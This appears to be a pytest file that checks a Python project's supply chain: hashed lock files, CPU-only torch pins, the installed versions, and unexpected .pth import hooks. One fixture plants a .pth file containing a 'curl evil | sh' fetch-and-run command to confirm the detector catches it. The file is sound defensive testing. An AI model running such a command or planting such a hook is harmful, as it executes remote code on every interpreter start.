"""Supply chain: the hashed locks match pyproject.toml, pin every package exactly with hashes, keep torch on the
CPU build, are what this venv has installed; and no installed distribution carries an unexpected `.pth` file
(a `.pth` line starting with `import` runs at every interpreter start: the way a compromised release persists).

The lock's vulnerability audit needs the network: `python3 scripts/lock.py --audit` (a step of .ci/run).
"""
from __future__ import annotations

import fnmatch
import hashlib
import importlib.metadata as md
import importlib.util
import re
import site
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.version import Version

ROOT = Path(__file__).resolve().parent.parent
_spec = importlib.util.spec_from_file_location("switchyard_lock", ROOT / "scripts" / "lock.py")
lock = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(lock)

LOCKS = (lock.LOCK, lock.NODEPS_LOCK, lock.TOOLS_LOCK)

# The .pth files an install from the locks may carry: (file name pattern, owning distribution, why).
ALLOWED_PTH = (
    ("distutils-precedence.pth", "setuptools",
     "setuptools' switch that makes `import distutils` load its bundled copy (SETUPTOOLS_USE_DISTUTILS)"),
    ("__editable__.switchyard-*.pth", "switchyard",
     "the editable install of this project (`pip install -e .`): installs its import finder"),
)


def _name(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


def test_locks_were_compiled_from_todays_pyproject():
    problems = lock.check()
    assert not problems, "\n".join(problems) + f"\nregenerate: {lock.REGENERATE}"


def test_the_check_sees_a_changed_requirement(tmp_path):
    """The comparison is by requirement, not by text: a new pin or a changed bound is seen, a reformat is not."""
    source = (ROOT / "pyproject.toml").read_text()
    recorded = lock.recorded_inputs(lock.LOCK)
    reformatted = tmp_path / "reformatted.toml"
    reformatted.write_text(source.replace('"starlette>=0.40"', '"Starlette >= 0.40"'))
    assert lock.project_inputs(reformatted) == recorded
    changed = tmp_path / "changed.toml"
    changed.write_text(source.replace('"starlette>=0.40"', '"starlette>=0.41"'))
    assert set(lock.project_inputs(changed)) ^ set(recorded) == {"starlette>=0.40", "starlette>=0.41"}
    added = tmp_path / "added.toml"
    added.write_text(source.replace('"pytest>=8",', '"pytest>=8",\n    "hypothesis>=6",'))
    assert set(lock.project_inputs(added)) - set(recorded) == {"hypothesis>=6"}


def test_every_pin_is_exact_and_hashed():
    for path in LOCKS:
        pins = lock.locked_pins(path)
        assert pins, f"{path.name} pins nothing"
        for name, (version, hashes) in pins.items():
            assert hashes, f"{path.name}: {name}=={version} has no hash"
            assert all(re.fullmatch(r"sha256:[0-9a-f]{64}", h) for h in hashes), (path.name, name, hashes)


def test_pins_satisfy_every_requirement_of_pyproject():
    pins = lock.locked_pins(lock.LOCK)
    for text in lock.project_inputs():
        req = Requirement(text)
        if req.marker is not None and not req.marker.evaluate():
            continue
        name = _name(req.name)
        assert name in pins, f"requirements.lock has no pin for {text!r}"
        assert req.specifier.contains(pins[name][0], prereleases=True), f"{name}=={pins[name][0]} breaks {text!r}"


def test_torch_locks_to_the_cpu_build_and_nothing_from_cuda():
    pins = lock.locked_pins(lock.LOCK)
    version, hashes = pins["torch"]
    assert Version(version).local == "cpu", f"torch=={version}: not the CPU build"
    cuda = sorted(n for n in pins if n.startswith(("nvidia-", "cuda-")))
    assert not cuda, f"CUDA packages in the lock: {cuda}"
    wheel = Path(f"/opt/wheels/torch-{version}-cp311-cp311-manylinux_2_28_x86_64.whl")
    if wheel.exists():  # the file pip takes on this machine (its find-links) is the one hashed
        digest = hashlib.sha256()
        with wheel.open("rb") as f:
            while block := f.read(1 << 20):
                digest.update(block)
        assert f"sha256:{digest.hexdigest()}" in hashes


def test_this_venv_was_installed_from_the_locks():
    """What `make install` put here is what the locks say (a hand-installed upgrade shows up here)."""
    wrong = []
    for path in (lock.LOCK, lock.NODEPS_LOCK):
        for name, (version, _) in lock.locked_pins(path).items():
            try:
                have = md.version(name)
            except md.PackageNotFoundError:
                have = None
            if name == "triton" and not sys.platform.startswith("linux"):
                continue
            if have is None or Version(have) != Version(version):
                wrong.append(f"{name}: locked {version}, installed {have}")
    assert not wrong, "\n".join(wrong) + "\nrun `make install` (it installs from the locks)"


# ---- .pth files


def _site_dirs() -> list[Path]:
    dirs = [Path(d) for d in site.getsitepackages()]
    if site.ENABLE_USER_SITE:
        dirs.append(Path(site.getusersitepackages()))
    return [d for d in dict.fromkeys(dirs) if d.is_dir()]


def pth_owners(paths: list[Path]) -> dict[Path, str | None]:
    """Each .pth file directly in `paths`, with the distribution whose RECORD lists it (None: no owner)."""
    owners: dict[Path, str | None] = {p: None for d in paths for p in sorted(d.glob("*.pth"))}
    for dist in md.distributions(path=[str(d) for d in paths]):
        for file in dist.files or ():
            if file.name.endswith(".pth"):
                located = Path(dist.locate_file(file)).resolve()
                for pth in owners:
                    if pth.resolve() == located:
                        owners[pth] = _name(dist.metadata["Name"])
    return owners


def unexpected_pth(paths: list[Path]) -> list[str]:
    bad = []
    for pth, owner in pth_owners(paths).items():
        allowed = any(fnmatch.fnmatch(pth.name, pattern) and owner == _name(dist)
                      for pattern, dist, _ in ALLOWED_PTH)
        if not allowed:
            head = pth.read_text(errors="replace")[:160].replace("\n", "\\n")
            bad.append(f"{pth} (installed by {owner or 'no distribution'}): {head}")
    return bad


def test_no_installed_distribution_carries_an_unexpected_pth_file():
    bad = unexpected_pth(_site_dirs())
    assert not bad, "unexpected .pth files (each runs at every interpreter start):\n" + "\n".join(bad)


def _fake_dist(site_dir: Path, name: str, files: list[str]) -> None:
    info = site_dir / f"{name}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (info / "RECORD").write_text("".join(f"{f},,\n" for f in [*files, f"{info.name}/METADATA"]))


def test_the_pth_check_catches_a_planted_file(tmp_path):
    """A release that drops an import hook (e.g. `litellm_init.pth`), an allowed name shipped by the wrong
    distribution, and a .pth no distribution owns are each reported; setuptools' own file is not."""
    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil | sh')\n")
    _fake_dist(tmp_path, "litellm", ["litellm_init.pth"])
    (tmp_path / "distutils-precedence.pth").write_text("import os\n")
    _fake_dist(tmp_path, "setuptools", ["distutils-precedence.pth"])
    (tmp_path / "__editable__.switchyard-0.1.0.pth").write_text("import evil\n")
    _fake_dist(tmp_path, "notswitchyard", ["__editable__.switchyard-0.1.0.pth"])
    (tmp_path / "orphan.pth").write_text("/somewhere\n")
    bad = unexpected_pth([tmp_path])
    assert len(bad) == 3, bad
    assert any("litellm_init.pth (installed by litellm)" in b for b in bad)
    assert any("__editable__.switchyard-0.1.0.pth (installed by notswitchyard)" in b for b in bad)
    assert any("orphan.pth (installed by no distribution)" in b for b in bad)



def test_the_audit_skips_with_its_reason_instead_of_a_false_green(monkeypatch, capsys):
    """A registry without PyPI's per-release JSON makes pip-audit skip every pin yet print "No known
    vulnerabilities found": the audit must say SKIPPED and why, and not run pip-audit at all."""
    answers = {"pypi.org": "https://pypi.org/pypi/pip/X/json answers 404", "api.osv.dev": "unreachable"}
    monkeypatch.setattr(lock, "_reachable", lambda url, data=None: next(v for k, v in answers.items() if k in url))
    monkeypatch.setattr(lock, "ensure_tools", lambda venv: pytest.fail("pip-audit run without a service"))
    assert lock.audit(Path("/nonexistent")) == 0
    out = capsys.readouterr().out
    assert out.startswith("SKIPPED:") and "answers 404" in out and "unreachable" in out
    answers["api.osv.dev"] = None
    assert lock.audit_service() == ("osv", "")
    answers["pypi.org"] = None
    assert lock.audit_service() == ("pypi", "")
